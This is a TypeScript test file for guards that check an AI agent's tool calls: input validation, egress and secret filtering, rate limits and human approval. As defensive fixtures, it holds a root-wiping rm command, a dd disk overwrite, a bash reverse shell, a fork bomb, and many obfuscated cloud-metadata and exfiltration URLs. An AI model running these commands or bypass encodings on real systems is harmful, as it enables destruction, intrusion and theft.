import type {
  ApprovalRequest,
  AuditEvent,
  CemError,
  Elicit,
  InvokeContext,
  JsonValue,
  ToolAnnotations,
  ToolCall,
  ToolInvoker,
} from "@cem/core";
import { matchTools } from "@cem/core";
import { describe, expect, it } from "vitest";
import {
  approvalReason,
  applyRules,
  checkEgress,
  checkInputs,
  countCalls,
  elicitApproval,
  describeApproval,
  followPlan,
  limitCalls,
  planWrites,
  requireApproval,
} from "./index.ts";
import type { CallGuard, CallRule, GuardedCall, PlannedWrite } from "./index.ts";

/** A tool that notes what reaches it. */
function guarded(guard: CallGuard, annotations?: ToolAnnotations, outputSchema?: object) {
  const reached: JsonValue[] = [];
  const tool: ToolInvoker = {
    specificationVersion: "v1",
    async invoke({ args }) {
      reached.push(args);
      return { ok: true, value: "done" };
    },
  };
  const invoker = guard(tool);
  const call = (args: JsonValue, context: Partial<InvokeContext> = {}, name = "files.remove") => {
    const [server = "", tool = ""] = name.split(".");
    const made = { server, tool, args, found: { annotations, outputSchema } };
    return invoker.invoke(made, { signal: new AbortController().signal, ...context });
  };
  return { call, reached };
}

const DESTRUCTIVE = { destructiveHint: true };

describe("matchTools", () => {
  it.each([
    ["weather.*", "weather", "get", true],
    ["weather", "weather", "get", true],
    ["weather", "weathers", "get", false],
    ["*.delete_*", "crm", "delete_all", true],
    ["*.delete_*", "crm", "undelete", false],
    ["*", "a", "b", true],
    ["a.*", "a", "b\nc", true],
    ["a.b", "a", "b.c", false],
    ["a", "a", "b.c", true],
    ["a.b", "a", "bc", false],
    ["a+.b", "aa", "b", false],
  ])("%s for %s.%s is %s", (pattern, server, tool, expected) => {
    expect(matchTools([pattern])({ server, tool })).toBe(expected);
  });

  it("knows a tool by its names in code as well", () => {
    const named = {
      server: "web pages",
      tool: "get-page",
      inCode: { server: "web-pages", tool: "get_page" },
    };
    for (const pattern of ["web pages.get-page", "web-pages.get_page", "web-pages", "*.get_*"])
      expect(matchTools([pattern])(named)).toBe(true);
    expect(matchTools(["web-pages.get-page"])(named)).toBe(false);
  });
});

describe("checkInputs", () => {
  const key = `ghp_${"a1".repeat(18)}`;
  it.each<[string, JsonValue, string]>([
    ["a NUL", { path: "a\0b" }, "ARGUMENTS_INVALID"],
    ["an escape of terminals", { text: "\u001B]52;c;eA==\u0007" }, "ARGUMENTS_INVALID"],
    ["text that is turned around", { name: "txt.\u202Eexe" }, "ARGUMENTS_INVALID"],
    ["tags that nobody sees", { text: "hi\u{E0041}\u{E0042}" }, "ARGUMENTS_INVALID"],
    ["a control character in a key", { "a\0": 1 }, "ARGUMENTS_INVALID"],
    ["deep nesting", JSON.parse(`${"[".repeat(80)}${"]".repeat(80)}`) as JsonValue, "ARGUMENTS_INVALID"],
    ["too much", { text: "x".repeat(9_000_000) }, "ARGUMENTS_INVALID"],
    ["a secret", { note: [`my token is ${key}`] }, "TOOL_NOT_ALLOWED"],
    ["a command that wipes", { command: "sudo rm -rf --no-preserve-root /" }, "TOOL_NOT_ALLOWED"],
    [
      "a command in a shell of its own",
      { command: "bash -c 'dd if=/dev/zero of=/dev/sda'" },
      "TOOL_NOT_ALLOWED",
    ],
    ["a shell to elsewhere", { command: "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1" }, "TOOL_NOT_ALLOWED"],
    ["a fork bomb", { command: ":(){ :|:& };:" }, "TOOL_NOT_ALLOWED"],
  ])("refuses %s", async (_, args, code) => {
    const { call, reached } = guarded(checkInputs());
    await expect(call(args)).rejects.toMatchObject({ code });
    expect(reached).toEqual([]);
  });

  it.each<[string, JsonValue]>([
    ["line ends and tabs", { text: "a\tb\r\nc" }],
    ["emoji with joiners and flags", { text: "👩‍👩‍👧 🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}" }],
    ["text from right to left", { text: "\u200Fשלום\u200E" }],
    ["the word constructor", { constructor: "Ferrari", prototype: "x" }],
    ["a parameter named prototype", { filter: { prototype: 1 }, constructor: { name: "Ferrari" } }],
    ["a text about commands", { body: "Never type rm -rf / in a shell, nor :(){ :|:& };:" }],
    ["removing a folder", { command: "rm -rf ./build" }],
    ["a URL with a placeholder", { url: "postgres://user:password@localhost/db" }],
    ["SQL", { sql: "DROP TABLE old; DELETE FROM x" }],
  ])("lets %s through", async (_, args) => {
    const { call, reached } = guarded(checkInputs());
    await call(args);
    expect(reached).toEqual([args]);
  });

  it("leaves out keys that would change prototypes, and nothing else", async () => {
    const { call, reached } = guarded(checkInputs());
    await call(
      JSON.parse('{"a":{"__proto__":{"x":1},"b":[{"constructor":{"prototype":{}}}]},"c":null}') as JsonValue,
    );
    expect(JSON.stringify(reached)).toBe('[{"a":{"b":[{}]},"c":null}]');
  });

  it("gives a filter the beginning of a long text", async () => {
    const lengths: number[] = [];
    const contentFilter = (text: string) => void lengths.push(text.length);
    await guarded(checkInputs({ contentFilter })).call(["short", "x".repeat(300_000)]);
    expect(lengths.toSorted((one, other) => one - other)).toEqual([5, 262_144]);
  });

  it("takes a filter of one's own, or none", async () => {
    const own = guarded(
      checkInputs({ contentFilter: (text) => (text.includes("cat") ? "a cat" : undefined) }),
    );
    await expect(own.call({ a: "a cat" })).rejects.toThrow("holds a cat");
    await guarded(checkInputs({ contentFilter: false })).call({ command: "rm -rf /" });
  });
});

describe("an argument that is refused", () => {
  it("is named with its tool", async () => {
    const { call } = guarded(checkInputs());
    const deep: JsonValue = JSON.parse(`${'{"b":'.repeat(65)}1${"}".repeat(65)}`);
    await expect(call(deep)).rejects.toMatchObject({
      message: "The arguments of files.remove are not valid: its arguments are nested deeper than 64 levels.",
    });
    await expect(call({ a: ["x\0"] })).rejects.toMatchObject({
      details: { server: "files", tool: "remove", argument: "a[0]" },
    });
    await expect(call({ a: "rm -rf /" })).rejects.toMatchObject({ details: { argument: "a" } });
  });
});

describe("checkEgress with secrets", () => {
  const secret = "s3cr3t-Value/91x+q";
  const guard = checkEgress({ secrets: [secret] });
  const encoded = (format: BufferEncoding, around = ""): string =>
    Buffer.from(around + secret + around).toString(format);
  it.each<JsonValue>([
    { q: `before ${secret} after` },
    { q: Array.from(secret).toReversed().join("") },
    { q: encoded("base64") },
    { q: encoded("base64", "x") },
    { q: encoded("base64url", "xy") },
    { q: Array.from(encoded("base64")).toReversed().join("") },
    { q: encoded("hex").toUpperCase() },
    { q: encodeURIComponent(secret) },
    { q: Array.from(secret).join(" ") },
    { q: Array.from(secret) },
    { a: secret.slice(0, 9), b: { c: secret.slice(9) } },
    { [secret]: 1 },
    { q: secret.toUpperCase() },
  ])("refuses one however it is written: %j", async (args) => {
    const { call, reached } = guarded(guard);
    await expect(call(args)).rejects.toMatchObject({ code: "TOOL_NOT_ALLOWED" });
    expect(reached).toEqual([]);
  });
  it("lets texts through that only look alike", async () => {
    const { call } = guarded(guard);
    await expect(call({ q: "a secret value", r: encoded("base64").slice(0, 7) })).resolves.toMatchObject({
      ok: true,
    });
  });
});

describe("checkEgress with a short secret", () => {
  it("finds it as it is written alone, since its letters stand in many texts", async () => {
    const { call } = guarded(checkEgress({ secrets: ["ab-cd-ef"] }));
    await expect(call({ q: "x ab-cd-ef y" })).rejects.toMatchObject({ code: "TOOL_NOT_ALLOWED" });
    await expect(call({ q: "cab cdef" })).resolves.toMatchObject({ ok: true });
  });
});

describe("checkEgress without rules", () => {
  it.each<JsonValue>([
    { url: "http://169.254.169.254/latest" },
    { url: "//169.254.169.254/latest" },
    { url: " \\\\169.254.169.254/latest" },
    { url: "https://a.example.com/?next=http%3A%2F%2F169.254.169.254" },
    { url: "http:169.254.169.254/latest" },
    { url: "http:/169.254.169.254/latest" },
    { url: "http:////////169.254.169.254/latest" },
    { url: "http://\n169.254.169.254/latest" },
    { url: "ht\ttp://169.254.169.\t254/latest" },
    { url: "http:0xa9fea9fe/" },
    { url: "http://a.example.com'@169.254.169.254/" },
    { text: "fetch http:169.254.169.254/latest" },
    { url: "0xa9fea9fe" },
    { server: "2852039166" },
    { address: "[::ffff:a9fe:a9fe]" },
    { host: "0251.0376.0251.0376" },
    { host: "169.254.169.254" },
    { host: "metadata.google.internal:80" },
    { text: "ssh root@169.254.43518" },
  ])("refuses a cloud's metadata: %j", async (args) => {
    const { call } = guarded(checkEgress());
    await expect(call(args)).rejects.toMatchObject({ code: "TOOL_NOT_ALLOWED" });
  });
});

describe("checkEgress with nothing to guard", () => {
  it("lets calls through, to any host", async () => {
    await expect(guarded(checkEgress()).call({ url: "https://a.test", q: "x" })).resolves.toMatchObject({
      ok: true,
    });
    const any = checkEgress({ rules: [{ tools: ["*"], hosts: ["*"] }] });
    await expect(guarded(any).call({ url: "https://a.test" })).resolves.toMatchObject({ ok: true });
  });

  it("says which host is not among those of the rule", async () => {
    const { call } = guarded(checkEgress({ rules: [{ tools: ["*"], hosts: ["a.test"] }] }));
    await expect(call({ to: "bob@b.test" })).rejects.toMatchObject({
      message:
        "files.remove may not be called this way: it points to b.test, which is not among the hosts it may reach.",
      details: { host: "b.test" },
    });
  });
});

describe("checkEgress", () => {
  const guard = checkEgress({
    rules: [{ tools: ["web.*"], hosts: ["*.example.com"] }],
    secrets: ["s3cr3t-value"],
  });
  it.each<JsonValue>([
    { url: "https://evil.test/?d=1" },
    { url: "//evil.test/x" },
    { url: "https:\\\\evil.test" },
    { url: "https://a.example.com@evil.test" },
    { url: "https://a.example.com.evil.test" },
    { url: "https://evil。test" },
    { text: "see https://a.example.com and http://evil.test" },
    { host: "evil.test" },
    { to: "bob@evil.test" },
    { list: [{ deep: "ftp://evil.test" }] },
    { "https://evil.test": 1 },
    { url: "https://a.example.com/?next=http%3A%2F%2Fevil.test" },
    ...[
      "https:/",
      "https:",
      "https://////",
      "https:\\",
      "https://\t",
      "ht\ntps://",
      "\thttps:/\n/",
      "wss:",
      "\0 /\t/",
    ].map((start) => ({ url: `${start}evil.test/x` })),
    ...["'", '"', "<", "`", " ", ":a'", `:${"a".repeat(310)}`].map((user) => ({
      url: `https://a.example.com${user}@evil.test/`,
    })),
    { url: "https://a.example.com\t.evil.test/" },
    { text: `{"url":"https:evil.test","note":"x"}` },
    { to: '"joe"@evil.test' },
    { to: "joe(x)@evil.test" },
    { to: "joe@(x)evil.test" },
    { to: "joe @ evil.test" },
    { to: "joe@[203.0.113.9]" },
    { to: "joe@[IPv6:2001:db8::1]" },
    { to: "joe@evil。test" },
    { to: "bob@a.example.com?bcc=x%40evil.test" },
    { url: "mailto:joe%2540evil.test" },
    { host: "localhost" },
    { host: "evil\t.test" },
    { host: "user:p@evil.test" },
    { host: { name: "evil.test" } },
    { hostname: "3405803785" },
    { url: "evil.test:443/path" },
    { text: "http:user:p@evil.test, http:1.evil.test, http:[2001:db8::1]" },
    { text: "http:[2001:db8::1]/x" },
    { text: "ws:3405803785" },
    { url: "http:0" },
    { url: "ftp:evil.test" },
    { text: "ftp:/evil.test" },
    { smtpHost: "localhost", HOST: "db" },
    { host: "Localhost" },
    { emailAddresses: ["joe @ evil.test"] },
    { to: "joe@intranet" },
    { to: "joe@1.2.3" },
    { text: "joe@evil.test" },
  ])("refuses a host that is not allowed: %j", async (args) => {
    const { call } = guarded(guard);
    await expect(call(args, {}, "web.fetch")).rejects.toMatchObject({ code: "TOOL_NOT_ALLOWED" });
  });
  it.each<JsonValue>([
    { url: "https://a.example.com/x?y=1" },
    { url: "https://example.com" },
    { to: "bob@mail.example.com", text: "1/2, a//b" },
    { path: "notes.txt", time: "12:30" },
    {
      text: 'see "https://a.example.com", (https://b.example.com/x)\nor http: and https://c.example.com\nNext',
    },
    { text: "// no host\n@Input() name; meet @ noon, hi @bob, C:\\x, localhost:3000" },
    { server: "crm", site: "42", address: "Main Street 1", link: "/next?page=2", host: { role: "db" } },
    { text: "sold @ 12.50, y = W @ x.T, x = 1\n@app.route('/a')\nsee you @ 10.12.2024" },
    { text: "status http:500, ports ws:3000 and https:8443.", code: "http:404", file: "ftp:readme.txt" },
    { text: "actions/checkout@v4 lodash@4.17.21 HEAD@{1} a%40b typescript@next image@sha256:ab user@db1" },
    {
      ghost: "Casper",
      podcast_host: "Joe",
      hosts: ["Anna", "Anna Smith"],
      host: { name: "Bo", id: "12345678" },
    },
    { memory_address: "0x7ffe1234", memoryAddress: "0x7ffe1234", origin: "12345678", link: "0", server: "7" },
    { urls: ["//b.example.com/x", "https:c.example.com"], host: "a.example.com:80" },
  ])("lets through %j", async (args) => {
    const { call, reached } = guarded(guard);
    await call(args, {}, "web.fetch");
    expect(reached).toEqual([args]);
  });
  it("takes no longer for schemes in a row than for other long texts", async () => {
    const { call, reached } = guarded(guard);
    await call({ text: "http:".repeat(1_600_000) }, {}, "web.fetch");
    expect(reached).toHaveLength(1);
  });
  it.each([
    "http://169.254.169.254/latest",
    "http://2852039166/",
    "http://0xa9fea9fe/x",
    "http://[::ffff:169.254.169.254]/",
  ])("refuses a cloud's metadata to any tool: %s", async (url) => {
    await expect(guarded(guard).call({ url })).rejects.toThrow("metadata");
  });
  it("refuses a secret of this process to any tool", async () => {
    await expect(guarded(guard).call({ a: ["x s3cr3t-value y"] })).rejects.toThrow("secret");
  });
});

describe("applyRules", () => {
  it("refuses with a rule's reason, and a copy of the arguments is all that it gets", async () => {
    const guard = applyRules([
      ({ args }) => {
        (args as { id: number }).id += 1;
      },
      async ({ args }) => (args as { id: number }).id < 10 || "only small ones",
    ]);
    const { call, reached } = guarded(guard);
    await expect(call({ id: 10 })).rejects.toThrow("only small ones.");
    await call({ id: 1 });
    expect(reached).toEqual([{ id: 1 }]);
  });
  it("judges numbers where digits are sent as such, whatever keys come with them", async () => {
    const rule: CallRule = ({ args }) => (args as { id: number }).id === 2 ** 60;
    const { call, reached } = guarded((next) => {
      const invoker = checkInputs()(applyRules([rule])(next));
      const withNumbers = (made: ToolCall): GuardedCall => ({ ...made, asNumbers });
      return { ...invoker, invoke: (made, context) => invoker.invoke(withNumbers(made), context) };
    });
    const asNumbers = JSON.parse('{"__proto__":{"x":1},"id":1152921504606846976}') as JsonValue;
    await call(JSON.parse('{"__proto__":{"x":1},"id":"1152921504606846977"}') as JsonValue);
    expect(JSON.stringify(reached)).toBe('[{"id":"1152921504606846977"}]');
  });
  it("refuses where a rule's answer is none", async () => {
    for (const answer of [{ aks: "a typing error" }, null]) {
      const rule = (() => answer) as unknown as CallRule;
      await expect(guarded(applyRules([rule])).call({})).rejects.toThrow("a rule forbids it");
    }
  });
  it("refuses what a person is to decide where no guard behind it asks one", async () => {
    const list = [() => ({ ask: "it is 100 or more" })];
    const approval = requireApproval({ approve: async () => "once" });
    const limits = limitCalls([{ tools: ["files"], calls: 9, per: 60 }]);
    const { call, reached } = guarded(applyRules(list));
    await expect(call(500)).rejects.toMatchObject({
      code: "NOT_APPROVED",
      message: expect.stringContaining("it is 100 or more, and nobody can be asked"),
    });
    expect(reached).toEqual([]);
    const rules = applyRules(list, { canAsk: true });
    await guarded((next) => rules(limits(planWrites(() => {})(approval(next))))).call(500);
    await guarded((next) => rules(limits(approval(next)))).call(500);
  });
  it("ends with the call's signal where a rule does not", async () => {
    const controller = new AbortController();
    const { call } = guarded(applyRules([() => new Promise(() => {})]));
    const called = call({}, { signal: controller.signal });
    controller.abort("enough");
    await expect(called).rejects.toBe("enough");
  });
  it("refuses where a rule throws", async () => {
    const guard = applyRules([
      () => {
        throw new Error("secret detail");
      },
    ]);
    await expect(guarded(guard).call({})).rejects.toThrow(
      /^files.remove may not be called: a rule for calls failed.$/,
    );
  });
});

describe("limitCalls", () => {
  it.each([
    [Number.NaN, 60],
    [-1, 60],
    [5, 0],
    [5, Number.NaN],
  ])("refuses %s calls in %s seconds, which would limit nothing", (calls, per) => {
    const limit = () => limitCalls([{ tools: ["files"], calls, per }]);
    expect(limit).toThrow(expect.objectContaining({ code: "OPTION_INVALID" }));
  });

  it("tells how long the wait still is", async () => {
    const { call } = guarded(limitCalls([{ tools: ["files"], calls: 1, per: 60 }]));
    await call({});
    await new Promise((resolve) => setTimeout(resolve, 20));
    const { message, details } = (await call({}).catch((thrown: unknown) => thrown)) as CemError;
    expect(message).toMatch(
      /^files\.remove may be called 1 times in 60 s, and was\. Try again in [\d.]+ s\.$/,
    );
    const wait = details?.["retryAfterMs"] as number;
    expect([wait < 60_000, wait > 30_000]).toEqual([true, true]);
  });

  it("counts the calls of all sessions together where they share them", async () => {
    const { call } = guarded(limitCalls([{ tools: ["files"], calls: 1, per: 60, by: "all" }]));
    await call({}, { session: "a" });
    await expect(call({}, { session: "b" })).rejects.toMatchObject({ code: "RATE_LIMITED" });
  });

  it("shares counts with other guards, for each owner, and with so many keys too", async () => {
    const counts = countCalls();
    const limits = [{ tools: ["files"], calls: 1, per: 60 }];
    const of = (owner: string, session?: string) =>
      guarded(limitCalls(limits, { counts, owner })).call({}, { session });
    await of("ada", "a");
    for (let other = 0; other < 3_000; other += 1) await counts.add(`${other}`, { calls: 1, per: 0.001 }, 1);
    await expect(of("ada", "a")).rejects.toMatchObject({ code: "RATE_LIMITED" });
    await of("bob", "a");
    // A guard's calls without a session are no other's.
    await of("ada");
    await of("ada");
  });

  it("counts a call that one limit refuses in none", async () => {
    const limits = [
      { tools: ["files"], calls: 2, per: 60 },
      { tools: ["files"], calls: 1, per: 0.2 },
    ];
    const { call } = guarded(limitCalls(limits));
    await call({});
    for (let refused = 0; refused < 3; refused += 1)
      await expect(call({})).rejects.toMatchObject({ details: { calls: 1 } });
    await expect.poll(() => call({}).then(() => "done", String), { interval: 50 }).toBe("done");
  });

  it("counts no call of another tool", async () => {
    const { call } = guarded(limitCalls([{ tools: ["files.*"], calls: 1, per: 60 }]));
    await call({}, {}, "web.get");
    await expect(call({}, {}, "web.get")).resolves.toMatchObject({ ok: true });
  });

  it("counts each tool and session by itself, and tells the wait", async () => {
    const { call } = guarded(limitCalls([{ tools: ["files.*"], calls: 2, per: 0.2 }]));
    await call({}, { session: "a" });
    await call({}, { session: "a" });
    await call({}, { session: "b" });
    await call({}, { session: "a" }, "files.read");
    const error: unknown = await call({}, { session: "a" }).catch((thrown: unknown) => thrown);
    expect(error).toMatchObject({
      code: "RATE_LIMITED",
      details: { calls: 2, retryAfterMs: expect.any(Number) },
    });
    const { retryAfterMs } = (error as { details: { retryAfterMs: number } }).details;
    expect(retryAfterMs).toBeLessThanOrEqual(1_000);
    await new Promise((resolve) => setTimeout(resolve, retryAfterMs + 20));
    await call({}, { session: "a" });
  });
});

describe("requireApproval", () => {
  it("asks for what is destructive, and no answer is no", async () => {
    const { call, reached } = guarded(requireApproval(), DESTRUCTIVE);
    await expect(call({})).rejects.toMatchObject({ code: "NOT_APPROVED", details: { answer: "unanswered" } });
    expect(reached).toEqual([]);
    await guarded(requireApproval(), {}).call({});
    await guarded(requireApproval(), { ...DESTRUCTIVE, readOnlyHint: true }).call({});
  });

  it("remembers a yes for the session, for the tool and the session alone", async () => {
    const asked: ApprovalRequest[] = [];
    const events: AuditEvent[] = [];
    const guard = requireApproval({
      approve: async (request) => {
        asked.push(request);
        return asked.length === 1 ? "once" : "session";
      },
      audit: { specificationVersion: "v1", record: (event) => void events.push(event) },
    });
    const { call } = guarded(guard, DESTRUCTIVE);
    await call({ id: 1 }, { session: "a" });
    await call({ id: 2 }, { session: "a" });
    await call({ id: 3 }, { session: "a" });
    await call({ id: 4 }, { session: "b" });
    await call({ id: 5 }, { session: "a" }, "files.other");
    expect(asked.map(({ args }) => args)).toEqual([{ id: 1 }, { id: 2 }, { id: 4 }, { id: 5 }]);
    expect(events.map((event) => event.type === "approval" && event.answer)).toEqual([
      "once",
      "session",
      "earlier",
      "session",
      "session",
    ]);
    expect(JSON.stringify(events)).not.toContain('"id":1');
  });

  it("stops the run's clock while parallel calls wait together", async () => {
    const waits: boolean[] = [];
    const asked: unknown[] = [];
    const answers: ((answer: "once") => void)[] = [];
    const guard = requireApproval({
      approve: (request) => {
        asked.push(request.args);
        return new Promise((resolve) => answers.push(resolve));
      },
    });
    const { call, reached } = guarded(guard, DESTRUCTIVE);
    const context = { onWaiting: (waiting: boolean) => void waits.push(waiting) };
    const calls = Promise.all([call(1, context), call(2, context)]);
    await new Promise((resolve) => setTimeout(resolve, 40));
    expect(asked).toEqual([1, 2]);
    expect(waits).toEqual([true, true]);
    for (const answer of answers) answer("once");
    await calls;
    expect(waits).toEqual([true, true, false, false]);
    expect(reached).toEqual([1, 2]);
  });

  it.each([
    ["what throws", async () => Promise.reject(new Error("no"))],
    ["what is no answer", async () => true as unknown as "once"],
  ])("takes %s for no", async (_, approve) => {
    await expect(guarded(requireApproval({ approve }), DESTRUCTIVE).call({})).rejects.toMatchObject({
      code: "NOT_APPROVED",
    });
  });

  it("asks for no destructive tool of a sandbox, where those are left out", () => {
    const reasonFor = approvalReason({ sandboxed: false });
    const reasonOf = (sandboxed: boolean) =>
      reasonFor({ server: "a", tool: "b", found: { annotations: DESTRUCTIVE, sandboxed } });
    expect([reasonOf(true), reasonOf(false)]).toEqual([undefined, "its server marks it as destructive"]);
    expect(approvalReason({})({ server: "a", tool: "b", found: { annotations: DESTRUCTIVE } })).toBe(
      "its server marks it as destructive",
    );
  });

  it.each([
    ["git_reset", { readOnlyHint: false }, true],
    ["git_clean", { readOnlyHint: false }, true],
    ["deleteFile", { readOnlyHint: false, idempotentHint: true }, true],
    ["deleteFile", undefined, false],
    ["git_clean", { destructiveHint: false }, false],
    ["delete_file", { readOnlyHint: true }, false],
    ["get_deleted_items", { readOnlyHint: false }, false],
    ["list_reset_tokens", { readOnlyHint: false }, false],
    ["create_reset_link", { readOnlyHint: false }, false],
    ["git_commit", { readOnlyHint: false }, false],
  ])(
    "takes the name of %s for a sign where the annotations %j leave it open: %s",
    (tool, annotations, asks) => {
      const reason = approvalReason({})({ server: "a", tool, found: { annotations } });
      expect(reason?.includes("its name that something may be lost") ?? false).toBe(asks);
      expect(
        approvalReason({ tools: ["a.other"] })({ server: "a", tool, found: { annotations } }),
      ).toBeUndefined();
    },
  );

  it("says whether the answer was no or there was none", async () => {
    const said = async (approve?: () => Promise<"no">) =>
      guarded(requireApproval({ approve }), DESTRUCTIVE).call({});
    await expect(said(async () => "no")).rejects.toThrow(
      /its server marks it as destructive, and the answer was no\. That is final: do not do it in another way\.$/,
    );
    await expect(said()).rejects.toThrow(/and nobody could be asked or nobody answered\.$/);
  });

  it("ends with its run", async () => {
    const controller = new AbortController();
    const { call } = guarded(requireApproval({ approve: () => new Promise(() => {}) }), DESTRUCTIVE);
    const asked = call({}, { signal: controller.signal });
    setTimeout(() => controller.abort(new Error("over")), 30);
    await expect(asked).rejects.toThrow("over");
  });

  it.each<[string[], ToolAnnotations | undefined, boolean]>([
    [["files.*"], { readOnlyHint: true }, true],
    [["writes"], undefined, true],
    [["writes"], { readOnlyHint: true }, false],
    [["destructive"], undefined, false],
    [["writes", "!files.remove"], DESTRUCTIVE, false],
    [["files.*", "!files.read"], undefined, true],
    [[], DESTRUCTIVE, false],
  ])("with %j and %j asks: %s", async (tools, annotations, asks) => {
    let asked = false;
    const approve = async () => {
      asked = true;
      return "once" as const;
    };
    await guarded(requireApproval({ tools, approve }), annotations).call({});
    expect(asked).toBe(asks);
  });

  it("asks where a rule wants it, each time", async () => {
    let asked = 0;
    const approve = async ({ reason }: ApprovalRequest) => {
      asked += 1;
      expect(reason).toBe("it is more than 100");
      return "session" as const;
    };
    const rules = applyRules([({ args }) => (args as number) <= 100 || { ask: "it is more than 100" }], {
      canAsk: true,
    });
    const { call } = guarded((next) => rules(requireApproval({ approve })(next)));
    await call(100);
    await call(101);
    await call(102);
    expect(asked).toBe(2);
  });
});

describe("requireApproval, of a program that names several calls", () => {
  const planned = [
    { server: "files", tool: "remove", args: { id: 1 } },
    { server: "files", tool: "move", args: { to: 2 } },
  ];
  function asked(answer: string | undefined) {
    const questions: string[] = [];
    const elicit: InvokeContext["elicit"] = async ({ message }) => {
      questions.push(message);
      return answer === undefined ? { action: "cancel" } : { action: "accept", content: { answer } };
    };
    const context = { planned, elicit, run: "r1", session: "s1" };
    return { questions, context };
  }
  const tool = () => guarded(requireApproval({ tools: ["files"] }));

  it("asks once, before the first call, and a yes holds for these calls alone", async () => {
    const { call, reached } = tool();
    const { questions, context: given } = asked("Yes, this once");
    const waits: boolean[] = [];
    const context = { ...given, onWaiting: (waiting: boolean) => void waits.push(waiting) };
    await call({}, context, "other.look");
    expect(waits).toEqual([true, false]);
    expect(questions).toEqual([
      'The code names 2 calls that need a yes, and asks for all of them at once. files.remove: { "id": 1 }; files.move: { "to": 2 }',
    ]);
    await Promise.all([call({ id: 1 }, context), call({ to: 2 }, context, "files.move")]);
    expect(questions).toHaveLength(1);
    await call({ id: 2 }, context);
    expect(questions).toHaveLength(2);
    expect(questions[1]).toContain('"id": 2');
    expect(reached).toHaveLength(4);
  });

  it("asks about a call that is made more often than it was shown", async () => {
    const { call, reached } = tool();
    const { questions, context } = asked("Yes, this once");
    await Promise.all([call({ id: 1 }, context), call({ to: 2 }, context, "files.move")]);
    for (const _ of [2, 3]) await call({ id: 1 }, context);
    expect(questions).toEqual([
      expect.stringContaining("2 calls"),
      ...[2, 3].map(() => expect.stringContaining("wants to call files.remove")),
    ]);
    expect(reached).toHaveLength(4);
    const twice = asked("Yes, this once");
    const shownTwice = { ...twice.context, planned: [...planned, ...planned.slice(0, 1)] };
    for (const _ of [1, 2]) await call({ id: 1 }, shownTwice);
    expect(twice.questions).toEqual([expect.stringContaining("3 calls")]);
  });

  it("asks about a call whose arguments the code computes when it is made", async () => {
    const { call, reached } = tool();
    const { questions, context: given } = asked("Yes, this once");
    const context = { ...given, planned: [...planned, { server: "files", tool: "copy" }] };
    await call({ id: 1 }, context);
    expect(questions).toEqual([expect.not.stringContaining("copy")]);
    await call({ id: 3 }, context, "files.copy");
    await call({ id: 4 }, context, "files.copy");
    expect(questions.slice(1)).toEqual([
      expect.stringContaining('"id": 3'),
      expect.stringContaining('"id": 4'),
    ]);
    expect(reached).toHaveLength(3);
  });

  it("asks about a call whose arguments are too long to be shown whole when it is made, with a part of each", async () => {
    const { call } = tool();
    const { questions, context: given } = asked("Yes, this once");
    const long = { note: "n".repeat(400), to: "mallory" };
    const context = { ...given, planned: [...planned, { server: "files", tool: "send", args: long }] };
    await call(long, context, "files.send");
    expect(questions).toEqual([
      expect.stringContaining("2 calls"),
      expect.stringMatching(/wants to call files\.send.*"to": "mallory"/),
    ]);
    const longer = { note: "n".repeat(4_000), list: ["a".repeat(4_000)], to: "mallory" };
    await call(longer, context, "files.send");
    expect(questions[2]).toMatch(
      /"note": "n{480,}… \(\d+ more characters are not shown\), "list": \[ "a+… \(\d+ more characters are not shown\), "to": "mallory" \}$/,
    );
  });

  it("makes no call after a no", async () => {
    const { call, reached } = tool();
    const { questions, context } = asked("No");
    for (const name of ["other.look", "files.remove", "files.copy"]) {
      await expect(call({ id: 1 }, context, name)).rejects.toMatchObject({ code: "NOT_APPROVED" });
    }
    expect(questions).toHaveLength(1);
    expect(reached).toEqual([]);
  });

  it("asks anew about another program of the run", async () => {
    const { call } = tool();
    const { questions, context } = asked("Yes, this once");
    await call({ id: 1 }, context);
    await call({ id: 1 }, { ...context, planned: [...planned] });
    expect(questions).toHaveLength(2);
  });

  it("does not ask again who did not answer, nor about tools that a session said yes to", async () => {
    const { call } = tool();
    const { questions, context } = asked(undefined);
    for (const name of ["other.look", "files.remove"])
      await expect(call({ id: 1 }, context, name)).rejects.toThrow("nobody could be asked");
    expect(questions).toHaveLength(1);
    await expect(call({}, { planned, run: "r2" }, "other.look")).rejects.toThrow(
      /^No call of this program was made: [\w., ]+ need a yes, and nobody could be asked or nobody answered\.$/,
    );
    const known = tool();
    const always = asked("Yes, for this session");
    for (const name of ["files.remove", "files.move"])
      await known.call({ id: 1 }, { ...always.context, planned: [] }, name);
    const never = asked("No");
    await known.call({ id: 1 }, never.context);
    expect(never.questions).toEqual([]);
  });

  it("holds for no tool of the same name of another server", async () => {
    const { call } = guarded(requireApproval({ tools: ["files", "archive"] }));
    const { questions, context } = asked("Yes, this once");
    await call({ id: 1 }, context);
    await call({ id: 1 }, context, "archive.remove");
    expect(questions).toEqual([
      expect.stringContaining("2 calls"),
      expect.stringContaining("archive.remove"),
    ]);
  });

  it("takes an answer that was not offered for no", async () => {
    const { questions, context } = asked("Yes, for this session");
    await expect(tool().call({ id: 1 }, context)).rejects.toMatchObject({ code: "NOT_APPROVED" });
    expect(questions).toHaveLength(1);
  });

  it.each([
    [20, "The code names 20 calls"],
    [21, "The code wants to call files.remove"],
  ])("of %d calls asks: %s", async (count, question) => {
    const many = Array.from({ length: count }, (_, id) => ({
      server: "files",
      tool: "remove",
      args: { id },
    }));
    const { questions, context } = asked("Yes, this once");
    await tool().call({ id: 1 }, { ...context, planned: many });
    expect(questions).toEqual([expect.stringContaining(question)]);
  });

  it("leaves each call to a function that decides calls", async () => {
    const { questions, context } = asked("No");
    const seen: ApprovalRequest[] = [];
    const { call } = tool();
    const approve = async (request: ApprovalRequest) => (seen.push(request), "once" as const);
    await call({ id: 1 }, { ...context, approve });
    expect(questions).toEqual([]);
    expect(seen).toMatchObject([{ tool: "remove", args: { id: 1 } }]);
  });
});

describe("elicitApproval", () => {
  const request = {
    server: "files",
    tool: "remove",
    args: { id: 1 },
    reason: "it may delete",
    session: "s1",
    signal: new AbortController().signal,
  };
  it.each([
    [{ action: "accept", content: { answer: "Yes, this once" } }, "once"],
    [{ action: "accept", content: { answer: "Yes, for this session" } }, "session"],
    [{ action: "accept", content: { answer: "No" } }, "no"],
    [{ action: "accept", content: { answer: "__proto__" } }, "no"],
    [{ action: "accept" }, "no"],
    [{ action: "decline" }, "no"],
  ] as const)("reads %j as %s", async (answer, expected) => {
    await expect(elicitApproval(async () => answer)(request)).resolves.toBe(expected);
  });
